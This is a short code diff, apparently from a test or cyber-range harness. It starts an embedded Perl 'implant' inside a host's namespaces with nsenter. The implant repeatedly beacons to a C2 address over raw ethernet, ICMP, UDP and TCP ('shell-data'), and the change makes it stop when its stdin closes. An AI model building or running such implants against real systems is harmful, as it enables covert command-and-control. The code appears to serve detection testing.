@@ -63,7 +63,8 @@ socket(my $s, AF_INET6, SOCK_DGRAM, 0) or die; my $six = pack_sockaddr_in6(${UDP
 socket(my $i, 2, SOCK_RAW, 1) or die; my $echo = pack("CCnnn", 8, 0, 0, 7, 7); substr($echo, 2, 2) = pack "n", sum($echo);
 my $ping = pack_sockaddr_in(0, inet_aton($to));
 my $link = pack("SniSCCa8", 17, 0x0800, line("/sys/class/net/eth0/ifindex"), 0, 0, 6, pack "H12", $gw);
-while (1) {
+STDIN->blocking(0);
+until (defined sysread STDIN, my $end, 1) { # whoever started it closes it, or is gone: a signal would reach nsenter alone
   send($p, $frame, 0, $link); send($q, $other, 0, $link); send($s, "beacon", 0, $six); send($i, $echo, 0, $ping);
   $u = IO::Socket::INET->new(Proto => "udp", PeerAddr => $to, PeerPort => ${UDP_PORT}) unless defined $u && defined send($u, "beacon", 0);
   if ($t && !defined syswrite($t, "shell-data\n") && !$!{EAGAIN}) { close $t; $t = undef; }
@@ -88,12 +89,12 @@ export async function startBeacon(range: Range): Promise<Beacon> {
     "nsenter",
     ["-t", String(range.hostPid1), "-a", "/usr/bin/perl", "-e", IMPLANT, range.c2.address, range.c2.address6],
     {
-      stdio: ["ignore", "ignore", "inherit"],
+      stdio: ["pipe", "ignore", "inherit"],
       env: {},
     },
   );
   const stop = () => {
-    implant.kill("SIGKILL");
+    implant.stdin?.end();
     listener.kill("SIGKILL");
   };
   for (let all = await heard(); KINDS.some((kind) => all[kind].count < 50); all = await heard()) {
